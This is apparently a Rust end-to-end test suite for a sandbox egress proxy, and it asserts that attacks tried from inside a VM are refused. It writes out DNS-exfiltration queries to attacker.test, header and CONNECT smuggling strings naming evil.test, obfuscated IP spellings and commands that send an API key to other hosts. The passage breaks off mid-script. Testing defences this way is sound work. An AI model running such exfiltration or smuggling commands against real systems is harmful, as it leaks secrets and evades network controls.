//! Egress end to end with real VMs: the real `hutch` binary, a local internet on loopback with its
//! own CA (hutch-testnet), and attacks tried from inside the guest. Each test names the threat
//! classes of ../shared/notes/threats.md it covers (the numbers below).
//!
//! Guest scripts run probes with `p NAME CMD...`, which prints `@@ NAME RC` and the output lines
//! as `@| ...`; the tests assert on each probe by name. Probes exit 0 only when the attempt got
//! through, so every "it is refused" assertion is paired with one that shows the same probe
//! working against something allowed.

mod common;

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::process::Stdio;

use common::{hutch, text};
use hutch_testnet::TestNet;

const PRELUDE: &str = r#"cat /root/testnet-ca.pem >> /etc/ssl/certs/ca-certificates.crt
p() { n=$1; shift; o=$("$@" 2>&1); r=$?; printf '@@ %s %s\n' "$n" "$r"; printf '%s\n' "$o" | sed 's/^/@| /'; }
probe() { python3 /root/probe.py "$@"; }
fake() { getent hosts "$1" | cut -d' ' -f1; }
"#;

struct Probe {
    rc: i32,
    out: String,
}

struct Outcome {
    code: Option<i32>,
    stdout: String,
    stderr: String,
    probes: BTreeMap<String, Probe>,
    audit: Vec<serde_json::Value>,
}

impl Outcome {
    fn dump(&self) -> String {
        format!(
            "exit {:?}\n--- stdout\n{}\n--- stderr\n{}",
            self.code, self.stdout, self.stderr
        )
    }

    fn probe(&self, name: &str) -> &Probe {
        self.probes
            .get(name)
            .unwrap_or_else(|| panic!("probe {name} did not run\n{}", self.dump()))
    }

    /// The probe got through (exit 0); returns its output.
    fn ok(&self, name: &str) -> &str {
        let p = self.probe(name);
        assert_eq!(
            p.rc, 0,
            "probe {name} should get through, got rc {}: {}",
            p.rc, p.out
        );
        &p.out
    }

    /// The probe did not get through; returns its output.
    fn refused(&self, name: &str) -> &str {
        let p = self.probe(name);
        assert_ne!(p.rc, 0, "probe {name} got through: {}", p.out);
        &p.out
    }

    /// The probe did not get through and its output mentions `needle`.
    fn refused_with(&self, name: &str, needle: &str) {
        let out = self.refused(name);
        assert!(
            out.contains(needle),
            "probe {name} should mention {needle:?}: {out}"
        );
    }

    /// Audit records with `field` equal to `value`.
    fn audit_where(&self, field: &str, value: &str) -> Vec<&serde_json::Value> {
        self.audit
            .iter()
            .filter(|r| r[field].as_str() == Some(value))
            .collect()
    }

    fn audit_text(&self) -> String {
        self.audit
            .iter()
            .map(|r| r.to_string())
            .collect::<Vec<_>>()
            .join("\n")
    }
}

/// One `hutch run` with egress flags against the test net.
struct Vm<'a> {
    net: &'a TestNet,
    args: Vec<String>,
    env: Vec<(String, String)>,
}

impl<'a> Vm<'a> {
    fn new(net: &'a TestNet) -> Vm<'a> {
        Vm {
            net,
            args: net.copy_in_args(),
            env: vec![],
        }
    }

    fn https(mut self, name: &str) -> Self {
        self.args.extend(self.net.allow_https(name));
        self
    }

    fn http(mut self, name: &str) -> Self {
        self.args.extend(self.net.allow_http(name));
        self
    }

    fn upstream_ca(mut self) -> Self {
        self.args.extend(self.net.upstream_ca_args());
        self
    }

    fn args(mut self, args: &[&str]) -> Self {
        self.args.extend(args.iter().map(|s| s.to_string()));
        self
    }

    fn env(mut self, k: &str, v: &str) -> Self {
        self.env.push((k.into(), v.into()));
        self
    }

    fn run(self, script: &str) -> Outcome {
        self.run_paused(script, |_| {})
    }

    /// Runs `script`; when the guest prints a line `@@PAUSE` it waits for a line on stdin while
    /// `at_pause` inspects the host side (it gets hutch's pid).
    fn run_paused(self, script: &str, at_pause: impl FnOnce(u32)) -> Outcome {
        use std::io::{BufRead, Read, Write};
        let audit = tempfile::NamedTempFile::new().expect("audit file");
        let audit_path: PathBuf = audit.path().to_path_buf();
        let mut cmd = hutch();
        cmd.arg("run")
            .args(&self.args)
            .arg("--audit")
            .arg(&audit_path);
        for (k, v) in &self.env {
            cmd.env(k, v);
        }
        let full = format!("{PRELUDE}{script}");
        let mut child = cmd
            .args(["--timeout", "300", "--", "sh", "-c", &full])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn hutch");
        let mut stderr_pipe = child.stderr.take().expect("stderr");
        let stderr_thread = std::thread::spawn(move || {
            let mut buf = Vec::new();
            let _ = stderr_pipe.read_to_end(&mut buf);
            buf
        });
        // Without a pause the guest gets end-of-file on stdin at once.
        let mut stdin = child.stdin.take().filter(|_| script.contains("@@PAUSE"));
        let mut reader = std::io::BufReader::new(child.stdout.take().expect("stdout"));
        let mut raw = Vec::new();
        let mut paused = Some(at_pause);
        loop {
            let mut line = Vec::new();
            if reader.read_until(b'\n', &mut line).expect("read stdout") == 0 {
                break;
            }
            raw.extend_from_slice(&line);
            if line == b"@@PAUSE\n" {
                if let Some(f) = paused.take() {
                    f(child.id());
                }
                if let Some(s) = stdin.as_mut() {
                    s.write_all(b"go\n").expect("resume the guest");
                }
            }
        }
        drop(stdin);
        let status = child.wait().expect("wait for hutch");
        let out = std::process::Output {
            status,
            stdout: raw,
            stderr: stderr_thread.join().expect("stderr thread"),
        };
        let stdout = text(&out.stdout);
        let mut probes = BTreeMap::new();
        let mut current: Option<String> = None;
        for line in stdout.lines() {
            if let Some(rest) = line.strip_prefix("@@ ") {
                let (name, rc) = rest.rsplit_once(' ').expect("probe line");
                probes.insert(
                    name.to_string(),
                    Probe {
                        rc: rc.parse().expect("probe rc"),
                        out: String::new(),
                    },
                );
                current = Some(name.to_string());
            } else if let (Some(rest), Some(name)) = (line.strip_prefix("@| "), &current) {
                let p = probes.get_mut(name).expect("current probe");
                p.out.push_str(rest);
                p.out.push('\n');
            }
        }
        let audit_text = std::fs::read_to_string(&audit_path).expect("read audit log");
        let audit = audit_text
            .lines()
            .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("audit line {l:?}: {e}")))
            .collect();
        Outcome {
            code: out.status.code(),
            stdout,
            stderr: text(&out.stderr),
            probes,
            audit,
        }
    }
}

/// Requests the test net received for exactly `path`.
fn requests_at(net: &TestNet, path: &str) -> Vec<hutch_testnet::Seen> {
    net.requests()
        .into_iter()
        .filter(|s| s.path == path)
        .collect()
}

const ECHO: &str = "echo.example.test";
const PLAIN: &str = "plain.example.test";
const GIT: &str = "git.example.test";

/// Baseline (and the positive half of class 2): an allowed host is reachable through the proxy
/// environment and without it, by curl, git and python; the test net sees each request with the
/// right Host and SNI, and the audit log records them as allowed.
#[test]
fn allowed_host_works_through_proxy_and_tunnel_with_curl_git_and_python() {
    let net = TestNet::start().expect("testnet");
    net.create_git_repo("repo.git", &[("README", "served by the test net\n")])
        .expect("repo");
    let o = Vm::new(&net).https(ECHO).https(GIT).http(PLAIN).run(&format!(
        r#"
p proxy curl -sS --fail {echo_proxy}
p tunnel curl -sS --fail --noproxy '*' {echo_tunnel}
p plain-proxy curl -sS --fail {plain_proxy}
p plain-tunnel curl -sS --fail --noproxy '*' {plain_tunnel}
p git sh -c 'git clone -q {git_url} /root/repo && cat /root/repo/README'
p python python3 -c 'import urllib.request; print(urllib.request.urlopen("{py}").read().decode())'
p python-noproxy env -u https_proxy -u HTTPS_PROXY python3 -c 'import urllib.request; print(urllib.request.urlopen("{py2}").read().decode())'
p resolv cat /etc/resolv.conf
"#,
        echo_proxy = net.https_url(ECHO, "/via-proxy"),
        echo_tunnel = net.https_url(ECHO, "/via-tunnel"),
        plain_proxy = net.http_url(PLAIN, "/plain-proxy"),
        plain_tunnel = net.http_url(PLAIN, "/plain-tunnel"),
        git_url = net.https_url(GIT, "/repo.git"),
        py = net.https_url(ECHO, "/python"),
        py2 = net.https_url(ECHO, "/python-noproxy"),
    ));
    assert_eq!(o.code, Some(0), "{}", o.dump());
    for (probe, path) in [
        ("proxy", "/via-proxy"),
        ("tunnel", "/via-tunnel"),
        ("python", "/python"),
        ("python-noproxy", "/python-noproxy"),
    ] {
        assert!(
            o.ok(probe).contains(&format!("\"path\":\"{path}\"")),
            "{probe}: {}",
            o.ok(probe)
        );
        let seen = requests_at(&net, path);
        assert_eq!(seen.len(), 1, "{path} reached the test net once");
        assert!(seen[0].tls);
        assert_eq!(seen[0].sni.as_deref(), Some(ECHO));
        assert_eq!(seen[0].host().as_deref(), Some(ECHO));
    }
    for (probe, path) in [
        ("plain-proxy", "/plain-proxy"),
        ("plain-tunnel", "/plain-tunnel"),
    ] {
        assert!(o.ok(probe).contains(path), "{}", o.ok(probe));
        let seen = requests_at(&net, path);
        assert_eq!(seen.len(), 1);
        assert!(!seen[0].tls);
        assert_eq!(seen[0].host().as_deref(), Some(PLAIN));
    }
    assert_eq!(o.ok("git").trim(), "served by the test net");
    assert!(
        net.requests()
            .iter()
            .any(|s| s.path.starts_with("/repo.git/git-upload-pack")),
        "git fetched over smart HTTP"
    );
    assert!(o.ok("resolv").contains("nameserver 127.0.0.53"));

    // Every connection is audited as allowed, with the decided name and the pinned address.
    let conns: Vec<_> = o
        .audit_where("event", "connection")
        .into_iter()
        .filter(|r| r["decision"] == "allow")
        .collect();
    let dest = format!("{ECHO}:{}", net.https_port());
    assert!(
        conns
            .iter()
            .any(|r| r["dest"] == dest.as_str() && r["via"] == "proxy"),
        "{}",
        o.audit_text()
    );
    assert!(
        conns
            .iter()
            .any(|r| r["dest"] == dest.as_str() && r["via"] == "tunnel"),
        "{}",
        o.audit_text()
    );
    assert!(conns.iter().all(|r| r["addr"]
        .as_str()
        .is_some_and(|a| a.starts_with("127.0.0.1:"))));
    assert!(
        o.audit_where("decision", "deny").is_empty(),
        "nothing denied: {}",
        o.audit_text()
    );
}

/// Classes 1 and 2, the plain case: a host with no allow rule fails at once with a message that
/// says why, its name does not resolve, and the audit log has the denials.
#[test]
fn denied_host_fails_fast_with_a_clear_error_and_a_deny_audit_line() {
    let net = TestNet::start().expect("testnet");
    let denied = "denied.example.test";
    let o = Vm::new(&net).https(ECHO).run(&format!(
        r#"
p getent getent hosts {denied}
p getent-allowed getent hosts {ECHO}
p https-proxy curl -sS --max-time 30 {https_denied}
p http-proxy curl -sS --fail-with-body --max-time 30 {http_denied}
p https-tunnel curl -sS --max-time 30 --noproxy '*' {https_denied}
p python python3 -c 'import urllib.request; urllib.request.urlopen("{https_denied}")'
"#,
        https_denied = net.https_url(denied, "/nope"),
        http_denied = net.http_url(denied, "/nope"),
    ));
    assert_eq!(o.code, Some(0), "{}", o.dump());
    assert_eq!(
        o.probe("getent").rc,
        2,
        "getent: name not found: {}",
        o.probe("getent").out
    );
    assert!(
        o.ok("getent-allowed").starts_with("198.18."),
        "allowed names get an address from the private range"
    );
    // curl exit 56 = CONNECT refused (not 28, a timeout): the proxy answered at once.
    let p = o.probe("https-proxy");
    assert_eq!(p.rc, 56, "{}", p.out);
    assert!(p.out.contains("403"), "{}", p.out);
    // Plain HTTP through the proxy: the gateway's own 403 says what was denied and why.
    let p = o.probe("http-proxy");
    assert_eq!(p.rc, 22, "{}", p.out);
    assert!(
        p.out.contains(&format!(
            "hutch: egress to {denied}:{} denied by policy",
            net.http_port()
        )),
        "{}",
        p.out
    );
    // Without the proxy the name does not resolve (curl 6).
    assert_eq!(
        o.probe("https-tunnel").rc,
        6,
        "{}",
        o.probe("https-tunnel").out
    );
    o.refused_with("python", "403");

    let denials: Vec<_> = o.audit_where("decision", "deny");
    assert!(
        denials
            .iter()
            .any(|r| r["event"] == "dns" && r["dest"] == denied),
        "{}",
        o.audit_text()
    );
    let https_dest = format!("{denied}:{}", net.https_port());
    assert!(
        denials.iter().any(|r| r["event"] == "connection"
            && r["dest"] == https_dest.as_str()
            && r["reason"]
                .as_str()
                .is_some_and(|s| s.contains("no allow rule"))),
        "{}",
        o.audit_text()
    );
    assert!(
        net.requests().is_empty(),
        "nothing reached the test net: {:?}",
        net.requests()
    );
    assert!(
        o.stderr.contains(denied),
        "the end-of-run summary names the denied host: {}",
        o.stderr
    );
}

/// Class 1 (DNS exfiltration): data in query labels never leaves the VM. The guest's only
/// resolver answers from policy (NXDOMAIN for the exfiltration names, nothing but A records for
/// allowed ones), public resolvers are unreachable over UDP, TCP, DoT and DoH, and the test net
/// sees nothing.
#[test]
fn threat1_dns_exfiltration_has_no_way_out() {
    let net = TestNet::start().expect("testnet");
    let leak = "c2VjcmV0LXRva2VuLTEyMzQ";
    let p = net.https_port();
    let o = Vm::new(&net).https(ECHO).run(&format!(
        r#"
p getent-exfil getent hosts {leak}.attacker.test
p getent-sub getent hosts {leak}.{ECHO}
p ahosts-exfil getent ahosts {leak}.attacker.test
p dns-exfil probe dns 127.0.0.53 {leak}.attacker.test
p dns-exfil-txt probe dns 127.0.0.53 {leak}.attacker.test 16
p dns-allowed probe dns 127.0.0.53 {ECHO}
p dns-allowed-txt probe dns 127.0.0.53 {ECHO} 16
p dns-allowed-aaaa probe dns 127.0.0.53 {ECHO} 28
p udp53-public probe dns 8.8.8.8 {leak}.attacker.test
p udp53-fake-range probe dns 198.18.0.1 {leak}.attacker.test
p tcp53-public probe dnstcp 1.1.1.1 {leak}.attacker.test
p tcp53-local probe dnstcp 127.0.0.53 {leak}.attacker.test
p dot probe tcp 1.1.1.1 853
p doh-name curl -sS --max-time 20 -H 'accept: application/dns-json' 'https://dns.google/resolve?name={leak}.attacker.test'
p doh-ip curl -sS --max-time 20 --fail-with-body 'http://1.1.1.1/dns-query?name={leak}.attacker.test'
p doh-ip-direct curl -sS --max-time 20 --noproxy '*' 'https://1.1.1.1/dns-query?name={leak}.attacker.test'
p tunnel-ok curl -sS --fail --noproxy '*' https://{ECHO}:{p}/dns-ok
"#
    ));
    assert_eq!(o.code, Some(0), "{}", o.dump());
    for probe in ["getent-exfil", "getent-sub", "ahosts-exfil"] {
        assert_eq!(
            o.probe(probe).rc,
            2,
            "{probe}: not found: {}",
            o.probe(probe).out
        );
    }
    o.refused_with("dns-exfil", "rcode=3 answers=0");
    o.refused_with("dns-exfil-txt", "rcode=3 answers=0");
    assert!(
        o.ok("dns-allowed").contains("addrs=198.18."),
        "{}",
        o.ok("dns-allowed")
    );
    // Allowed names answer nothing but their A record: no TXT or AAAA channel back in either.
    o.refused_with("dns-allowed-txt", "rcode=0 answers=0");
    o.refused_with("dns-allowed-aaaa", "rcode=0 answers=0");
    o.refused_with("udp53-public", "ENETUNREACH");
    o.refused("udp53-fake-range");
    o.refused_with("tcp53-public", "ENETUNREACH");
    o.refused_with("tcp53-local", "ECONNREFUSED");
    o.refused_with("dot", "ENETUNREACH");
    assert_eq!(
        o.probe("doh-name").rc,
        56,
        "DoH by name: CONNECT refused: {}",
        o.probe("doh-name").out
    );
    o.refused_with("doh-ip", "IP address");
    assert_eq!(
        o.probe("doh-ip-direct").rc,
        7,
        "DoH by address without the proxy: no route: {}",
        o.probe("doh-ip-direct").out
    );
    assert!(o.ok("tunnel-ok").contains("/dns-ok"));

    // Only the exfiltration names' DNS denials reached the host (its audit log), nothing further.
    let dns_denied: Vec<&str> = o
        .audit_where("event", "dns")
        .iter()
        .filter(|r| r["decision"] == "deny")
        .filter_map(|r| r["dest"].as_str())
        .collect();
    assert!(
        dns_denied
            .iter()
            .any(|d| d.starts_with(&leak.to_ascii_lowercase())),
        "{}",
        o.audit_text()
    );
    assert_eq!(
        net.requests()
            .iter()
            .map(|s| s.path.as_str())
            .collect::<Vec<_>>(),
        vec!["/dns-ok"]
    );
    assert_eq!(net.udp_datagrams(), 0);
}

/// Class 2 (proxy bypass): programs that ignore the proxy environment reach allowed names only
/// through the guest's redirect; raw sockets, UDP/QUIC, ICMP and IP literals (v4, v6, v4-mapped)
/// have no route, because the VM has no network device at all.
#[test]
fn threat2_proxy_bypass_fails_by_construction() {
    let net = TestNet::start().expect("testnet");
    let (p, u) = (net.https_port(), net.udp_port());
    let o = Vm::new(&net).https(ECHO).run(&format!(
        r#"
p links ip -o link
p routes sh -c 'ip route show table all; ip -6 route show table all'
p tunnel-ok curl -sS --fail --noproxy '*' https://{ECHO}:{p}/bypass-ok
p ip-direct curl -sS --noproxy '*' --max-time 20 http://93.184.216.34/
p ip-proxy curl -sS --fail-with-body --max-time 20 http://93.184.216.34/
p tcp-raw probe tcp 93.184.216.34 443
p udp-public probe udp 8.8.8.8 443
p quic-fake-addr probe udp $(fake {ECHO}) {u}
p icmp probe icmp 8.8.8.8
p raw-ip probe rawip 8.8.8.8
p v6-direct curl -sS --noproxy '*' --max-time 20 'http://[2606:4700:4700::1111]/'
p v6-proxy curl -sS --fail-with-body --max-time 20 'http://[2606:4700:4700::1111]/'
p v4mapped probe tcp ::ffff:93.184.216.34 80
p v6-udp probe udp 2001:4860:4860::8888 53
p unassigned-fake probe tcp 198.18.250.250 443
p other-port probe tcp $(fake {ECHO}) 9
p python-noproxy env -u https_proxy -u HTTPS_PROXY -u http_proxy -u HTTP_PROXY python3 -c 'import urllib.request; print(urllib.request.urlopen("https://{ECHO}:{p}/python-bypass").read().decode())'
"#
    ));
    assert_eq!(o.code, Some(0), "{}", o.dump());
    let links = o.ok("links");
    assert_eq!(links.lines().count(), 1, "only loopback: {links}");
    assert!(links.starts_with("1: lo:"), "{links}");
    assert!(
        !o.ok("routes").contains("default"),
        "no default route: {}",
        o.ok("routes")
    );
    assert!(o.ok("tunnel-ok").contains("/bypass-ok"));
    assert!(o.ok("python-noproxy").contains("/python-bypass"));
    assert_eq!(o.probe("ip-direct").rc, 7, "{}", o.probe("ip-direct").out);
    o.refused_with("ip-proxy", "IP address 93.184.216.34");
    o.refused_with("tcp-raw", "ENETUNREACH");
    o.refused_with("udp-public", "ENETUNREACH");
    // UDP to an allowed name's address stays inside the guest (QUIC has nowhere to go).
    o.refused_with("quic-fake-addr", "ECONNREFUSED");
    o.refused_with("icmp", "ENETUNREACH");
    o.refused_with("raw-ip", "ENETUNREACH");
    assert_eq!(o.probe("v6-direct").rc, 7, "{}", o.probe("v6-direct").out);
    o.refused_with("v6-proxy", "IP address 2606:4700:4700::1111");
    o.refused_with("v4mapped", "ENETUNREACH");
    o.refused_with("v6-udp", "ENETUNREACH");
    // An address the resolver never handed out stands for no name: accepted, then closed empty.
    o.refused_with("unassigned-fake", "closed without a byte");
    o.refused_with("other-port", "closed without a byte");
    let other = format!("{ECHO}:9");
    assert!(
        o.audit_where("dest", &other)
            .iter()
            .any(|r| r["decision"] == "deny"),
        "port 9 has no rule: {}",
        o.audit_text()
    );
    assert_eq!(net.udp_datagrams(), 0, "no UDP reached the host");
    let paths: Vec<String> = net.requests().into_iter().map(|s| s.path).collect();
    assert_eq!(
        paths,
        vec!["/bypass-ok".to_string(), "/python-bypass".to_string()]
    );
}

/// Class 3 (name canonicalization): IP spellings are refused by the proxy whatever the spelling
/// (the bytes the client sent, not a normalized URL), and case and trailing-dot variants of an
/// allowed name are decided as that name, on every path, and dialed at its pinned address.
#[test]
fn threat3_canonicalization_is_decided_on_the_dialed_bytes() {
    let net = TestNet::start().expect("testnet");
    let (p, hp) = (net.https_port(), net.http_port());
    let raw = |target: &str| {
        format!("'\"GET http://{target}/x HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n\"'")
    };
    let connect =
        |target: &str| format!("'\"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n\"'");
    let mut script = String::new();
    for (name, target) in [
        ("abs-short", format!("127.1:{hp}")),
        ("abs-hex", format!("0x7f.1:{hp}")),
        ("abs-int", format!("2130706433:{hp}")),
        ("abs-octal", format!("0177.0.0.1:{hp}")),
        ("abs-v4mapped", format!("[::ffff:127.0.0.1]:{hp}")),
        ("abs-zone", format!("[fe80::1%25lo]:{hp}")),
    ] {
        script.push_str(&format!("p {name} probe proxy {}\n", raw(&target)));
    }
    for (name, target) in [
        ("connect-short", format!("127.1:{p}")),
        ("connect-int", format!("2130706433:{p}")),
        ("connect-v4mapped", format!("[::ffff:7f00:1]:{p}")),
        ("connect-double-dot", format!("{ECHO}..:{p}")),
        ("connect-case-dot", format!("ECHO.Example.TEST.:{p}")),
    ] {
        script.push_str(&format!("p {name} probe proxy {}\n", connect(&target)));
    }
    script.push_str(&format!(
        r#"
p curl-short curl -sS --max-time 20 http://127.1:{hp}/
p case-proxy curl -sS --fail https://ECHO.Example.TEST:{p}/case-proxy
p dot-proxy curl -sS --fail https://{ECHO}.:{p}/dot-proxy
p case-tunnel curl -sS --fail --noproxy '*' https://ECHO.EXAMPLE.TEST:{p}/case-tunnel
p dot-tunnel curl -sS --fail --noproxy '*' https://{ECHO}.:{p}/dot-tunnel
p getent-variant getent hosts ECHO.Example.TEST.
p getent-canonical getent hosts {ECHO}
p getent-double-dot getent hosts {ECHO}..
p getent-numeric getent hosts 0x7f.1
"#
    ));
    let o = Vm::new(&net).https(ECHO).http(ECHO).run(&script);
    assert_eq!(o.code, Some(0), "{}", o.dump());
    for probe in [
        "abs-short",
        "abs-hex",
        "abs-int",
        "abs-octal",
        "abs-v4mapped",
        "connect-short",
        "connect-int",
        "connect-v4mapped",
    ] {
        o.refused_with(probe, "403");
        o.refused_with(probe, "is the IP address");
    }
    o.refused("abs-zone");
    o.refused("connect-double-dot");
    assert!(
        o.ok("connect-case-dot").starts_with("HTTP/1.1 200"),
        "{}",
        o.ok("connect-case-dot")
    );
    // curl turns 127.1 into 127.0.0.1, which NO_PROXY sends to the guest's own loopback.
    assert_eq!(o.probe("curl-short").rc, 7, "{}", o.probe("curl-short").out);
    for (probe, path) in [
        ("case-proxy", "/case-proxy"),
        ("dot-proxy", "/dot-proxy"),
        ("case-tunnel", "/case-tunnel"),
        ("dot-tunnel", "/dot-tunnel"),
    ] {
        assert!(o.ok(probe).contains(path), "{probe}: {}", o.ok(probe));
        assert_eq!(requests_at(&net, path).len(), 1, "{path}");
    }
    let addr = |probe: &str| {
        o.ok(probe)
            .split_whitespace()
            .next()
            .unwrap_or("")
            .to_string()
    };
    assert_eq!(
        addr("getent-variant"),
        addr("getent-canonical"),
        "one name, one address"
    );
    assert_eq!(o.probe("getent-double-dot").rc, 2);
    // glibc does not read 0x7f.1 as an address, so it asks the resolver, and the host refuses it.
    assert_eq!(
        o.probe("getent-numeric").rc,
        2,
        "{}",
        o.probe("getent-numeric").out
    );
    assert!(
        o.audit.iter().any(|r| r["event"] == "dns"
            && r["dest"] == "0x7f.1"
            && r["reason"]
                .as_str()
                .is_some_and(|s| s.contains("is the IP address 127.0.0.1"))),
        "{}",
        o.audit_text()
    );

    // Every allowed decision is on the canonical name, dialed at the pinned address.
    for r in o
        .audit
        .iter()
        .filter(|r| r["decision"] == "allow" && r["event"] == "connection")
    {
        assert_eq!(
            r["dest"].as_str(),
            Some(format!("{ECHO}:{p}").as_str()),
            "{r}"
        );
        assert_eq!(
            r["addr"].as_str(),
            Some(format!("127.0.0.1:{p}").as_str()),
            "{r}"
        );
    }
    assert!(
        net.requests().iter().all(|s| s.path != "/x"),
        "no IP spelling reached the test net"
    );
}

/// Class 4 (parser differentials): NUL and CR/LF in names (in DNS labels and in CONNECT),
/// absolute-form requests whose authority differs from Host, duplicate Hosts and userinfo are
/// refused before anything is dialed.
#[test]
fn threat4_parser_differentials_are_refused() {
    let net = TestNet::start().expect("testnet");
    let (p, hp) = (net.https_port(), net.http_port());
    let req = |name: &str, text: String| format!("p {name} probe proxy '\"{text}\"'\n");
    let mut script = String::new();
    script.push_str("p dns-nul probe dns 127.0.0.53 \"b'echo\\x00'|b'example'|b'test'\"\n");
    script.push_str("p dns-crlf probe dns 127.0.0.53 \"b'echo\\r\\nx'|b'example'|b'test'\"\n");
    script.push_str("p dns-space probe dns 127.0.0.53 \"b'echo example'|b'test'\"\n");
    script.push_str("p dns-ok probe dns 127.0.0.53 \"b'echo'|b'example'|b'test'\"\n");
    script.push_str(&req(
        "connect-nul",
        format!("CONNECT {ECHO}\\x00.evil.test:{p} HTTP/1.1\\r\\nHost: {ECHO}:{p}\\r\\n\\r\\n"),
    ));
    script.push_str(&req(
        "connect-crlf",
        format!("CONNECT {ECHO}\\r\\nX: evil.test:{p} HTTP/1.1\\r\\n\\r\\n"),
    ));
    script.push_str(&req(
        "abs-host-mismatch",
        format!("GET http://{PLAIN}:{hp}/mismatch HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"),
    ));
    script.push_str(&req(
        "abs-host-other-allowed",
        format!("GET http://{PLAIN}:{hp}/mismatch2 HTTP/1.1\\r\\nHost: {ECHO}:{hp}\\r\\n\\r\\n"),
    ));
    script.push_str(&req("abs-two-hosts", format!("GET http://{PLAIN}:{hp}/two HTTP/1.1\\r\\nHost: {PLAIN}:{hp}\\r\\nHost: evil.test\\r\\n\\r\\n")));
    script.push_str(&req("abs-userinfo", format!("GET http://evil.test@{PLAIN}:{hp}/userinfo HTTP/1.1\\r\\nHost: {PLAIN}:{hp}\\r\\n\\r\\n")));
    script.push_str(&req(
        "abs-ok",
        format!("GET http://{PLAIN}:{hp}/abs-ok HTTP/1.1\\r\\nHost: {PLAIN}:{hp}\\r\\n\\r\\n"),
    ));
    script.push_str(&format!("p tunnel-host-mismatch curl -sS --fail-with-body --noproxy '*' -H 'Host: evil.test' http://{PLAIN}:{hp}/tunnel-mismatch\n"));
    let o = Vm::new(&net).http(PLAIN).http(ECHO).run(&script);
    assert_eq!(o.code, Some(0), "{}", o.dump());
    o.refused_with("dns-nul", "rcode=3");
    o.refused_with("dns-crlf", "rcode=3");
    o.refused_with("dns-space", "rcode=3");
    assert!(o.ok("dns-ok").contains("addrs=198.18."));
    o.refused_with("connect-nul", "400");
    o.refused_with("connect-crlf", "400");
    for probe in [
        "abs-host-mismatch",
        "abs-host-other-allowed",
        "abs-two-hosts",
        "abs-userinfo",
    ] {
        o.refused_with(probe, "400");
    }
    assert!(o.ok("abs-ok").starts_with("HTTP/1.1 200"));
    o.refused_with("tunnel-host-mismatch", "authority mismatch");
    let paths: Vec<String> = net.requests().into_iter().map(|s| s.path).collect();
    assert_eq!(
        paths,
        vec!["/abs-ok".to_string()],
        "only the well-formed request reached the test net"
    );
    assert!(
        o.audit.iter().any(|r| r["reason"]
            .as_str()
            .is_some_and(|s| s.contains("authority mismatch"))),
        "{}",
        o.audit_text()
    );
}

const API: &str = "api.example.test";
const OTHER: &str = "other.example.test";

fn random_hex(n: usize) -> String {
    use std::io::Read;
    let mut b = vec![0u8; n];
    std::fs::File::open("/dev/urandom")
        .expect("urandom")
        .read_exact(&mut b)
        .expect("random bytes");
    b.iter().map(|x| format!("{x:02x}")).collect()
}

/// The QEMU process hutch started (its direct child running a sandbox).
fn qemu_of(hutch_pid: u32) -> u32 {
    let qemus: Vec<u32> = common::processes_mentioning("/sandboxes/")
        .into_iter()
        .filter(|p| {
            std::fs::read_to_string(format!("/proc/{p}/stat"))
                .map(|s| {
                    s.rsplit(')')
                        .next()
                        .and_then(|r| r.split_whitespace().nth(1))
                        == Some(&hutch_pid.to_string())
                })
                .unwrap_or(false)
        })
        .collect();
    assert_eq!(
        qemus.len(),
        1,
        "one QEMU child of hutch {hutch_pid}: {qemus:?}"
    );
    qemus[0]
}

/// The sandbox directory of a QEMU process (from its console path).
fn sandbox_dir_of(qemu: u32) -> PathBuf {
    let cmdline = std::fs::read(format!("/proc/{qemu}/cmdline")).expect("qemu cmdline");
    let cmdline = String::from_utf8_lossy(&cmdline);
    let dir = cmdline
        .split('\0')
        .find_map(|a| {
            a.split("path=")
                .nth(1)
                .and_then(|p| p.strip_suffix("/console.log"))
        })
        .expect("console path in the QEMU command line");
    PathBuf::from(dir)
}

/// Which of `needles` occur anywhere in the readable memory of process `pid`.
fn memory_contains(pid: u32, needles: &[&str]) -> Vec<bool> {
    let (found, regions) = hutch_testnet::process_memory_contains(pid, needles);
    assert!(
        regions > 256 << 20,
        "read {regions} bytes of QEMU memory, expected the guest's RAM at least"
    );
    found
}

fn file_contains(path: &std::path::Path, needle: &str) -> bool {
    let data = std::fs::read(path).unwrap_or_else(|e| panic!("read {}: {e}", path.display()));
    memchr::memmem::find(&data, needle.as_bytes()).is_some()
}

/// Classes 6 and 12 (credential laundering and reflection; secrets in env, memory, disk, logs):
/// the upstream bound to a secret receives the real value, over intercepted TLS only, via the
/// proxy and the transparent path; the placeholder sent anywhere else (another secret's host, a
/// host without secrets, plaintext HTTP to the bound host, across a redirect, in a URL or a body)
/// arrives unchanged and is flagged; a value echoed back is masked. While the VM runs, neither
/// QEMU's environment, command line and memory (all of guest RAM) nor the sandbox's files hold the
/// real value; hutch's output and audit log never do.
#[test]
fn threat6_threat12_secret_reaches_only_its_host_and_never_the_vm() {
    let net = TestNet::start().expect("testnet");
    let (p, hp) = (net.https_port(), net.http_port());
    let real = format!("sk-live-{}", random_hex(24));
    let other_real = format!("sk-other-{}", random_hex(24));
    let marker = format!("disk-marker-{}", random_hex(12));
    let script = format!(
        r#"
p env-key sh -c 'echo "$API_KEY"'
p swap curl -sS --fail -H "Authorization: Bearer $API_KEY" https://{API}:{p}/v1/swap
p tunnel-swap curl -sS --fail --noproxy '*' -H "Authorization: Bearer $API_KEY" https://{API}:{p}/v1/tunnel-swap
p reflect curl -sS -i --fail -H "Authorization: $API_KEY" https://{API}:{p}/reflect/authorization
p cross-secret curl -sS --fail -H "Authorization: Bearer $OTHER_KEY" https://{API}:{p}/v1/cross
p to-other curl -sS --fail -H "Authorization: Bearer $API_KEY" https://{OTHER}:{p}/v1/to-other
p plaintext curl -sS --fail -H "Authorization: Bearer $API_KEY" http://{API}:{hp}/v1/plaintext
p plain-other curl -sS --fail -H "Authorization: Bearer $API_KEY" http://{PLAIN}:{hp}/v1/plain-other
p passthrough curl -sS --fail -H "Authorization: Bearer $API_KEY" https://{ECHO}:{p}/v1/passthrough
p redirect curl -sS --fail -L --location-trusted -H "Authorization: Bearer $API_KEY" "https://{API}:{p}/redirect?to=https://{OTHER}:{p}/v1/landed"
p url curl -sS --fail "https://{API}:{p}/v1/url?key=$API_KEY"
p body curl -sS --fail -d "key=$API_KEY" https://{API}:{p}/v1/body
